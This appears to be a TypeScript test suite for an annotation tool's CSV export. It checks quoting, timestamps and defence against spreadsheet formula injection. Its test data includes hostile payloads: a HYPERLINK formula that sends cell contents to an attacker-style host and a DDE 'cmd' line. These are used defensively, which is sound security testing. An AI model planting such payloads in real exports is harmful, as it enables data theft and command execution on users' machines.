import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { AnnotationRecord } from '../shared/model';
import { bundleArb, oddString } from './arbitraries';
import { CSV_COLUMNS, csvCell, formatCsv, localIsoTime } from './csv';

const BREAKS = /[ \t]*[\r\n\t\v\f\u0085\u2028\u2029]+[ \t]*/g;

/** RFC 4180 reader for the test: rows of cells, CRLF between records, "" inside quotes. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 2;
      } else if (c === '"') {
        quoted = false;
        i++;
      } else {
        cell += c;
        i++;
      }
    } else if (c === '"' && cell === '') {
      quoted = true;
      i++;
    } else if (c === ',') {
      row.push(cell);
      cell = '';
      i++;
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 2;
    } else {
      if (c === '"' || c === '\r' || c === '\n') throw new Error(`unquoted ${JSON.stringify(c)} at ${i}`);
      cell += c;
      i++;
    }
  }
  if (cell !== '' || row.length > 0) throw new Error('last record does not end with CRLF');
  return rows;
}

/** What a spreadsheet evaluates: a cell starting with = + - @ (after spaces), tab or CR. */
const RUNS_AS_FORMULA = /^[\s\u00a0\u3000]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r]/;

const hostile = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1+2',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '\u00a0=cmd',
  '＝1+1',
  '"=1+1"',
  'line one\r\nline two, with "quotes"',
];

describe('CSV export', { timeout: 120_000 }, () => {
  it('quotes by RFC 4180, one line per cell, every cell text (folded, less the formula guard) through a parser', () => {
    fc.assert(
      fc.property(bundleArb, (bundle) => {
        const text = formatCsv(bundle);
        expect(text.startsWith('\uFEFF')).toBe(true);
        const rows = parseCsv(text.slice(1));
        expect(rows[0]).toEqual([...CSV_COLUMNS]);
        expect(rows).toHaveLength(bundle.annotations.length + 1);
        const col = (name: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(name);
        // Ids that differ only in their line breaks ("\r\n" and " ") fold to one cell: a cell may name several.
        const byId = new Map<string, Array<(typeof bundle.annotations)[number]>>();
        for (const a of bundle.annotations) {
          const key = a.id.replace(BREAKS, ' ');
          byId.set(key, [...(byId.get(key) ?? []), a]);
        }
        // Grouped by article (each article's rows together), in reading order inside it.
        const seen: string[] = [];
        let last = null as { url: string; start: number } | null;
        for (const row of rows.slice(1)) {
          expect(row).toHaveLength(CSV_COLUMNS.length);
          const url = row[col('article_url')]!;
          if (last?.url !== url) {
            expect(seen).not.toContain(url);
            seen.push(url);
          } else expect(Number(row[col('start')])).toBeGreaterThanOrEqual(last.start);
          last = { url, start: Number(row[col('start')]) };
          // Plain checks per cell (an expect per cell made the property slow): the offending cell is named.
          const bad = row.find((value) => RUNS_AS_FORMULA.test(value) || /[\r\n\u2028\u2029\u0085]/.test(value));
          expect(bad).toBeUndefined();
        }
        const guarded = (s: string) => {
          const one = s.replace(BREAKS, ' ');
          return RUNS_AS_FORMULA.test(one) ? `'${one}` : one;
        };
        for (const row of rows.slice(1)) {
          const unguarded = row[col('id')]!.replace(/^'/, '');
          const candidates = byId.get(unguarded) ?? byId.get(row[col('id')]!) ?? [];
          // The row is one of the annotations its id cell names, every field written as it should be.
          const cells = (a: (typeof candidates)[number]) => ({
            id: guarded(a.id), text: guarded(a.text), note: guarded(a.note), speaker: guarded(a.speaker ?? ''),
            tags: guarded([...a.tags, ...(a.labels ?? [])].join('; ')), kind: a.kind, start: String(a.selectors.position.start),
          });
          const written = { id: row[col('id')], text: row[col('text')], note: row[col('note')], speaker: row[col('speaker')], tags: row[col('tags')], kind: row[col('kind')], start: row[col('start')] };
          const k = candidates.findIndex((a) => JSON.stringify(cells(a)) === JSON.stringify(written));
          expect(k, `row ${JSON.stringify(written)}`).toBeGreaterThanOrEqual(0);
          const a = candidates.splice(k, 1)[0]!;
          expect(Date.parse(row[col('updated')]!)).toBe(Math.floor(a.updated / 1000) * 1000);
          expect(row[col('date')]).toBe(row[col('created')]);
        }
      }),
      { numRuns: 150 },
    );
  });

  it('writes times in local ISO 8601 with the offset', () => {
    const ms = Date.UTC(2026, 10, 29, 13, 3, 7, 450);
    expect(localIsoTime(ms, () => 60)).toBe('2026-11-29T14:03:07+01:00');
    expect(localIsoTime(ms, () => -330)).toBe('2026-11-29T07:33:07-05:30');
    expect(localIsoTime(ms, () => 0)).toBe('2026-11-29T13:03:07+00:00');
    expect(Date.parse(localIsoTime(ms))).toBe(ms - 450);
  });

  it('no cell can run as a formula, whatever the text', () => {
    fc.assert(
      fc.property(fc.oneof(oddString(30), fc.constantFrom(...hostile), fc.string()), (text) => {
        const cell = csvCell(text);
        const [value] = parseCsv(`${cell}\r\n`)[0]!;
        expect(RUNS_AS_FORMULA.test(value!)).toBe(false);
      }),
      { numRuns: 2000 },
    );
  });

  it('guards each hostile example with a leading apostrophe and quotes where needed', () => {
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('+1')).toBe("'+1");
    expect(csvCell('-1')).toBe("'-1");
    expect(csvCell('@A1')).toBe("'@A1");
    expect(csvCell('\tx')).toBe("'\tx");
    expect(csvCell('\rx')).toBe('"\'\rx"');
    expect(csvCell('  =1')).toBe("'  =1");
    expect(csvCell('a "b", c')).toBe('"a ""b"", c"');
    expect(csvCell('plain text')).toBe('plain text');
    expect(csvCell('1-2')).toBe('1-2');
  });

  it('opens each row with title, speaker, kind, text, tags, note, date and URL; ids and selectors last', () => {
    const base = {
      article: 'https://a.example/s', kind: 'quote' as const, speakerKind: 'person' as const, cue: 'said', origin: 'auto' as const, created: 0, updated: 0,
      selectors: { quote: { type: 'TextQuoteSelector' as const, exact: 'e', prefix: '', suffix: '' }, position: { type: 'TextPositionSelector' as const, start: 1, end: 2 } },
    };
    const a: AnnotationRecord = {
      ...base, id: 'x1', text: hostile[0]!, speaker: '@someone', tags: ['supported', 'disputed'], labels: ['kremlin'], note: '-note\nsecond line',
    };
    const b: AnnotationRecord = { ...base, id: 'x0', text: 'plain\r\nquote', speaker: 'Ann', tags: [], note: 'A plain note.', selectors: { ...base.selectors, position: { ...base.selectors.position, start: 0 } } };
    const other: AnnotationRecord = { ...base, id: 'y', article: 'https://b.example/', text: 't', speaker: null, tags: [], note: '' };
    const rows = parseCsv(
      formatCsv(
        { articles: [{ url: a.article, title: '=Title', site: 'a.example', firstVisit: 0, lastVisit: 0 }], annotations: [a, other, b] },
        { noBom: true, offsetMinutes: () => 60 },
      ),
    );
    expect(rows.slice(1)).toEqual([
      ["'=Title", 'Ann', 'quote', 'plain quote', '', 'A plain note.', '1970-01-01T01:00:00+01:00', 'https://a.example/s', '',
        'a.example', 'person', 'said', 'auto', '1970-01-01T01:00:00+01:00', '1970-01-01T01:00:00+01:00', 'x0', 'e', '', '', '0', '2'],
      ["'=Title", "'@someone", 'quote', `'${hostile[0]}`, 'supported; disputed; kremlin', "'-note second line", '1970-01-01T01:00:00+01:00', 'https://a.example/s', '',
        'a.example', 'person', 'said', 'auto', '1970-01-01T01:00:00+01:00', '1970-01-01T01:00:00+01:00', 'x1', 'e', '', '', '1', '2'],
      ['https://b.example/', '', 'quote', 't', '', '', '1970-01-01T01:00:00+01:00', 'https://b.example/', '',
        'b.example', 'person', 'said', 'auto', '1970-01-01T01:00:00+01:00', '1970-01-01T01:00:00+01:00', 'y', 'e', '', '', '1', '2'],
    ]);
  });
});
